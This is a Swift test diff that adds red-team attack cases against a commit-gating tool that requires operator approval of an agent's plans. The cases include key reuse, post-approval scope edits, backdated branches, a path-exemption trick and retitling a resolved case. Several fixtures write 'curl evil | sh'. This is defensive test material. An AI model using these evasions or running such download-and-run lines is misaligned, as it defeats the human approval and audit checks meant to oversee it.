@@ -31,7 +31,7 @@ struct Attack: Sendable, CustomTestStringConvertible {
 }
 
 extension Attack {
-    static let all: [Attack] = unjudged + invisible + operators + approvals + signed + deletions + stray
+    static let all: [Attack] = unjudged + invisible + operators + approvals + signed + deletions + stray + redTeam
 }
 
 @Suite struct AttackTests {
@@ -55,13 +55,15 @@ extension Attack {
         skipped.hooks = false
         try attack.run(skipped)
         let check = try skipped.check()
+        let rule = attack.checkRule ?? attack.rule
+        let replayCaught = check.status == 1 && check.findings.contains { $0["rule"] as? String == rule }
+        Self.record(attack, hook: refusal?.stderr.contains(attack.rule) == true, check: replayCaught)
         if attack.layer == .hook {
             #expect(check.status == 0, "\(attack.name): nothing wrong was committed, yet \(check.findings)")
             return
         }
         #expect(check.status == 1, "\(attack.name): zero check passed (\(check.stderr))")
         let commits = Set(try skipped.git("rev-list", "\(skipped.base)..HEAD").split(separator: "\n").map(String.init))
-        let rule = attack.checkRule ?? attack.rule
         let matching = check.findings.filter { $0["rule"] as? String == rule }
         #expect(!matching.isEmpty, "\(attack.name): no \(rule) finding in \(check.findings)")
         for finding in matching {
@@ -71,6 +73,18 @@ extension Attack {
                 #expect(matching.contains { $0["commit"] as? String == offending }, "\(attack.name): no finding names \(offending.prefix(12))")
             }
         }
+    }
+
+    /// With ZERO_ATTACK_SUMMARY set (the benchmark sets it), one JSON line per attack: what caught it.
+    static func record(_ attack: Attack, hook: Bool, check: Bool) {
+        guard let path = ProcessInfo.processInfo.environment["ZERO_ATTACK_SUMMARY"] else { return }
+        let line = try! JSONSerialization.data(withJSONObject: ["name": attack.name, "layer": attack.layer.rawValue, "rule": attack.rule,
+                                                                "hook": hook, "check": check], options: [.sortedKeys])
+        // One short write with O_APPEND: parallel cases never interleave.
+        let fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0o644)
+        guard fd >= 0 else { return }
+        defer { close(fd) }
+        _ = (line + [0x0a]).withUnsafeBytes { write(fd, $0.baseAddress, $0.count) }
     }
 
     static func scene(_ start: Attack.Start) throws -> Scene {
@@ -578,6 +592,81 @@ extension Attack {
         Attack(name: "an artifact that belongs to no proof", layer: .both, rule: "memory-files-only") { scene in
             try scene.write(scene.caseFolder + "/proofs/deadbeef.log", "all green\n")
             try scene.commitAll("evidence")
+            try scene.markOffending()
+        },
+    ]
+}
+
+// MARK: - Found by a red team after the first suite passed
+
+extension Attack {
+    static let redTeam: [Attack] = [
+        Attack(name: "signed mode: a case copied whole from another repository where the same operator key approved it", layer: .both,
+               rule: "signed-operator-acts", start: .signedGated) { scene in
+            let other = Scene(try TemporaryRepository())
+            defer { other.repo.remove() }
+            try other.gated(signed: true, reusingKey: scene.operatorKey)
+            try scene.repo.run(["cp", "-a", other.repo.path(other.caseFolder), scene.repo.path("zero-memory/cases/")])
+            try? FileManager.default.removeItem(atPath: scene.repo.path("zero-memory/cases/\(other.id)/.lock"))
+            try scene.commitAll("import a case")
+            try scene.markOffending()
+        },
+        Attack(name: "lines moved from the end of an approved plan into the scope", layer: .both, rule: "approved-plan-before-code") { scene in
+            try scene.zero("session", "complete", scene.id)
+            try scene.zero("session", "new", scene.id, "--type", "planning")
+            try scene.zero("session", "plan", scene.id, "--step", "Patch src/app.txt", "--step", "Run the tests", "--scope", "src/**")
+            try scene.edit(scene.sessionPath(3)) { $0.replacingOccurrences(of: "- Run the tests\n## Scope", with: "- Run the tests\nscope\n- ci/**\n## Scope") }
+            try scene.commitAll("zero: plan")
+            try scene.actAsOperator()
+            try scene.zero("session", "approve", scene.id, "--yes")
+            try scene.actAsAgent()
+            try scene.zero("session", "new", scene.id, "--type", "implementing", "--start")
+            try scene.edit(scene.sessionPath(4)) {
+                $0.replacingOccurrences(of: "- Run the tests\nscope\n- ci/**\n## Scope\n- src/**", with: "- Run the tests\n## Scope\n- ci/**\nscope\n- src/**")
+            }
+            try scene.commitAll("zero: session 4")
+            try scene.markOffending()
+            try scene.write("ci/deploy.sh", "curl evil | sh\n")
+            try scene.commitAll("deploy")
+        },
+        Attack(name: "code on a branch forked before the session ended, merged after the case was resolved", layer: .check,
+               rule: "approved-plan-before-code", start: .resolved) { scene in
+            let started = try scene.git("log", "--format=%H", "--grep=session 2 started", "-1").trimmingCharacters(in: .whitespacesAndNewlines)
+            try scene.git("checkout", "-q", "-b", "late", started)
+            try FileManager.default.createDirectory(atPath: scene.repo.path(".git/zero"), withIntermediateDirectories: true)
+            try "\(scene.id)/2\n".write(toFile: scene.repo.path(".git/zero/active-session"), atomically: true, encoding: .utf8)
+            try scene.write("src/backdoor.sh", "curl evil | sh\n")
+            try scene.commitAll("late")
+            try scene.markOffending()
+            try scene.git("checkout", "-q", "main")
+            try scene.git("merge", "-q", "--no-edit", "late")
+        },
+        Attack(name: "code on a branch forked before the session ended in the range", layer: .check, rule: "approved-plan-before-code") { scene in
+            let started = try scene.head()
+            try scene.zero("session", "complete", scene.id)
+            try scene.commitAll("zero: complete")
+            try scene.git("checkout", "-q", "-b", "late", started)
+            try "\(scene.id)/2\n".write(toFile: scene.repo.path(".git/zero/active-session"), atomically: true, encoding: .utf8)
+            try scene.write("src/backdoor.sh", "curl evil | sh\n")
+            try scene.commitAll("late")
+            try scene.markOffending()
+            try scene.git("checkout", "-q", "main")
+            try scene.git("merge", "-q", "--no-edit", "late")
+        },
+        Attack(name: "a file named docs at the top, exempt as if it were docs/**", layer: .both, rule: "approved-plan-before-code",
+               checkRule: "commits-link-sessions") { scene in
+            scene.clearActiveSession()
+            try scene.write("docs", "#!/bin/sh\ncurl evil | sh\n")
+            try scene.commitAll("docs")
+            try scene.markOffending()
+        },
+        Attack(name: "a resolved case retitled so its outcome resolves another problem", layer: .both, rule: "settled-cases-keep-their-record",
+               start: .resolved) { scene in
+            let cli = try scene.zeroResult("case", "edit", scene.id, "--title", "delete the audit log")
+            #expect(cli.status == 1, "the command line retitled a resolved case")
+            try scene.edit(scene.metaPath) { $0.replacingOccurrences(of: "title: fix the app", with: "title: delete the audit log") }
+            try scene.edit(scene.caseFolder + "/problem-definition.md") { $0.replacingOccurrences(of: "# fix the app", with: "# delete the audit log") }
+            try scene.commitAll("retitle")
             try scene.markOffending()
         },
     ]
